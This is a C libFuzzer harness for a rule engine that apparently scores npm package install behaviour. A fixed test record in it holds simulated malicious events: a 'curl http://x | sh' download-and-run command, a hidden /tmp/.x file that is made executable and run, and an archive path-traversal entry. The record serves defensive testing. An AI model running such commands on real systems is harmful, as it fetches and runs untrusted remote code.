/* libFuzzer target: a rule file (the loader validates user input), then
 * the rules it accepted evaluated over a small fixed record, so the
 * matchers (globs, regexes, paths, ancestry, sequences) run on them too. */
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include "verdict.h"

static const char record_text[] =
    "{\"package\":{\"ecosystem\":\"npm\",\"name\":\"demo\"},"
    "\"identity\":{\"user\":\"priya\",\"home\":\"/home/priya\"},"
    "\"phases\":[{\"name\":\"install\",\"kind\":\"install\"}],"
    "\"hijacks\":[{\"name\":\"aws\",\"phase\":\"install\",\"wraps\":true}],"
    "\"problems\":[{\"rule\":\"archive-path-traversal\",\"entry\":\"../x\"}],"
    "\"events\":["
    "{\"t\":1,\"pid\":10,\"kind\":\"process\",\"ppid\":1,\"argv\":[\"npm\","
    "\"install\"],\"exe\":\"/usr/bin/node\",\"phase\":\"install\"},"
    "{\"t\":2,\"pid\":11,\"kind\":\"process\",\"ppid\":10,\"argv\":[\"npm\"],"
    "\"phase\":\"install\"},"
    "{\"t\":3,\"pid\":11,\"kind\":\"exec\",\"path\":\"/bin/"
    "sh\",\"argv\":[\"sh\","
    "\"-c\",\"curl http://x | sh\"],\"phase\":\"install\"},"
    "{\"t\":4,\"pid\":11,\"kind\":\"file\",\"op\":\"create\",\"path\":"
    "\"/tmp/.x\",\"flags\":[\"O_WRONLY\"],\"phase\":\"install\"},"
    "{\"t\":5,\"pid\":11,\"kind\":\"file\",\"op\":\"chmod\",\"path\":\"/tmp/"
    ".x\","
    "\"mode\":\"0755\",\"phase\":\"install\"},"
    "{\"t\":6,\"pid\":11,\"kind\":\"exec\",\"path\":\"/tmp/"
    ".x\",\"argv\":[\"x\"],"
    "\"phase\":\"install\"},"
    "{\"t\":7,\"pid\":0,\"kind\":\"dns\",\"name\":\"a.b.test\",\"phase\":"
    "\"install\",\"http\":{\"method\":\"POST\"},\"port\":53}]}";

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size) {
  static json_t *record;
  if (record == NULL)
    record = json_loads(record_text, 0, NULL);
  pt_err *err = NULL;
  pt_rules *r =
      pt_rules_load_string("fuzz.json", (const char *)data, size, &err);
  if (r == NULL) {
    if (err == NULL || err->msg == NULL)
      __builtin_trap();
    pt_err_free(err);
    return 0;
  }
  json_t *findings = NULL;
  int score = -1;
  const char *verdict = NULL;
  if (pt_rules_evaluate(r, record, &findings, &score, &verdict, &err) < 0)
    __builtin_trap(); /* only ENOMEM may fail */
  if (score < 0 || score > 100 || verdict == NULL || !json_is_array(findings))
    __builtin_trap();
  json_decref(findings);
  pt_rules_free(r);
  return 0;
}
